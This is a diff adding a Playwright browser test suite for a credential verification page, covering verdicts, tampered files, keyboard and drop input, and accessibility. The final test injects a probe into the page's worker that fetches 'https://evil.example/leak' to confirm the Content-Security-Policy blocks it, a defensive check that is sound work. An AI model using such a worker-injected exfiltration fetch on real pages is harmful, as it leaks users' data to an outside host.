@@ -1,0 +1,150 @@
+"""The verify page in a real Chromium: each verdict in words, nothing shown before the proof holds, nothing sent."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+pytestmark = pytest.mark.browser
+
+OpenPage = Callable[..., Page]
+
+
+def check_file(page: Page, data: bytes, name: str = "credential.json") -> str:
+    """Choose a file on the page and wait for the verdict's code."""
+    page.locator("#verify-file").set_input_files({"name": name, "mimeType": "application/json", "buffer": data})
+    verdict = page.locator("#verify-result .verdict")
+    expect(verdict).to_be_visible(timeout=30_000)
+    return verdict.get_attribute("data-verdict") or ""
+
+
+def example(root: Path, name: str) -> bytes:
+    """A holder's file of the example registry."""
+    return (root / "tests" / "examples" / f"{name}.json").read_bytes()
+
+
+@pytest.mark.parametrize(
+    ("name", "verdict", "headline"),
+    [
+        ("valid", "valid", "This credential is valid"),
+        ("retired-key", "valid", "This credential is valid"),
+        ("reinstated", "valid", "This credential is valid"),
+        ("pathway", "valid", "This credential is valid"),
+        ("revoked", "withdrawn", "This credential has been withdrawn"),
+        ("on-hold", "on_hold", "This credential is on hold"),
+        ("expired", "expired", "This credential expired on"),
+    ],
+)
+def test_each_example_has_its_verdict(root: Path, open_page: OpenPage, name: str, verdict: str, headline: str) -> None:
+    """Every award of the example gets the verdict its story calls for, with the holder's name and every step."""
+    page = open_page("verify/")
+    assert check_file(page, example(root, name)) == verdict
+    result = page.locator("#verify-result")
+    expect(result.locator("h2")).to_contain_text(headline)
+    holder = json.loads(example(root, name))["credentialSubject"]["identifier"][0]["identityHash"]
+    expect(result).to_contain_text(holder)
+    assert result.locator("[data-step]").count() == 13
+
+
+def test_changed_claim_is_not_genuine_and_nothing_is_shown(root: Path, open_page: OpenPage) -> None:
+    """One changed character of a claim: changed or not genuine, and no claim of the file is on the page."""
+    document = json.loads(example(root, "valid"))
+    name = document["credentialSubject"]["identifier"][0]["identityHash"]
+    changed = name[:-1] + ("x" if name[-1] != "x" else "y")
+    data = example(root, "valid").replace(name.encode(), changed.encode())
+    page = open_page("verify/")
+    assert check_file(page, data) == "altered"
+    result = page.locator("#verify-result")
+    expect(result.locator("h2")).to_have_text("This file has been changed or is not genuine")
+    shown = result.inner_text()
+    for claim in (changed, name, document["name"], document["issuer"]["name"]):
+        assert claim not in shown
+
+
+def test_pasted_text_is_checked(root: Path, open_page: OpenPage) -> None:
+    """A credential can be pasted instead of chosen, from the keyboard alone."""
+    page = open_page("verify/")
+    page.locator("#verify-paste summary").press("Enter")
+    page.locator("#verify-text").fill(example(root, "valid").decode())
+    page.locator("#verify-text-go").press("Enter")
+    expect(page.locator("#verify-result .verdict")).to_have_attribute("data-verdict", "valid", timeout=30_000)
+
+
+def test_dropped_file_is_checked(root: Path, open_page: OpenPage) -> None:
+    """A file dropped anywhere on the page is checked and does not replace the page."""
+    page = open_page("verify/")
+    transfer = page.evaluate_handle(
+        "text => { const t = new DataTransfer(); t.items.add(new File([text], 'dropped.json')); return t }",
+        example(root, "revoked").decode(),
+    )
+    page.dispatch_event("#verify-drop", "drop", {"dataTransfer": transfer})
+    expect(page.locator("#verify-result .verdict")).to_have_attribute("data-verdict", "withdrawn", timeout=30_000)
+
+
+def test_verdict_takes_the_focus_and_is_announced(root: Path, open_page: OpenPage) -> None:
+    """Who can't see the page hears the verdict: the live region has the focus."""
+    page = open_page("verify/")
+    check_file(page, example(root, "valid"))
+    assert page.evaluate("document.activeElement.id") == "verify-result"
+    expect(page.locator("#verify-result")).to_have_attribute("aria-live", "polite")
+
+
+def test_anything_else_is_unreadable(open_page: OpenPage) -> None:
+    """Bytes that are no credential get a plain answer."""
+    page = open_page("verify/")
+    assert check_file(page, b"\x89PNG\r\n\x1a\nnothing", "badge.png") == "unreadable"
+
+
+def test_one_check_after_another(root: Path, open_page: OpenPage) -> None:
+    """The second verdict replaces the first, also for the same name."""
+    page = open_page("verify/")
+    assert check_file(page, example(root, "valid")) == "valid"
+    page.locator("#verify-file").set_input_files(
+        {"name": "credential.json", "mimeType": "application/json", "buffer": example(root, "revoked")}
+    )
+    expect(page.locator("#verify-result .verdict")).to_have_attribute("data-verdict", "withdrawn", timeout=30_000)
+    assert page.locator("#verify-result .verdict").count() == 1
+
+
+def test_what_was_fetched_came_from_this_place(root: Path, open_page: OpenPage, origin: str) -> None:
+    """Addresses of the registry are answered by the page's own origin, and the page says so."""
+    page = open_page("verify/")
+    check_file(page, example(root, "valid"))
+    lines = page.locator("#verify-result .fetched li").all_text_contents()
+    assert any("https://registry.society.example/issuers/example-society/did.json" in line for line in lines)
+    assert all(origin.removeprefix("http://") in line for line in lines)
+
+
+_PROBE = """
+;(async () => {
+  const stopped = new Promise((done) =>
+    self.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective)))
+  const nothing = new Promise((done) => setTimeout(done, 2000, 'none'))
+  let answer
+  try { await fetch('https://evil.example/leak'); answer = 'reached' } catch { answer = 'blocked' }
+  self.postMessage({probe: answer, directive: await Promise.race([stopped, nothing])})
+})()
+"""
+_START = """async (probe) => {
+  const program = await (await fetch('worker.js')).text()
+  const address = URL.createObjectURL(new Blob([program + probe], {type: 'text/javascript'}))
+  const worker = new Worker(address)
+  return new Promise((resolve) => worker.addEventListener('message', ({data}) => {
+    if (data.probe) resolve(data)
+  }))
+}"""
+
+
+def test_worker_can_not_reach_another_host(chromium: Browser, origin: str) -> None:
+    """A fetch to another host from inside the worker is stopped by the page's policy, before any request."""
+    context = chromium.new_context()
+    requests: list[str] = []
+    context.on("request", lambda request: requests.append(request.url))
+    page = context.new_page()
+    page.goto(f"{origin}/verify/")
+    # The real worker's program with a probe put behind it, started in the way that page.js starts it.
+    assert page.evaluate(_START, _PROBE) == {"probe": "blocked", "directive": "connect-src"}
+    assert [url for url in requests if "evil.example" in url] == []
+    context.close()
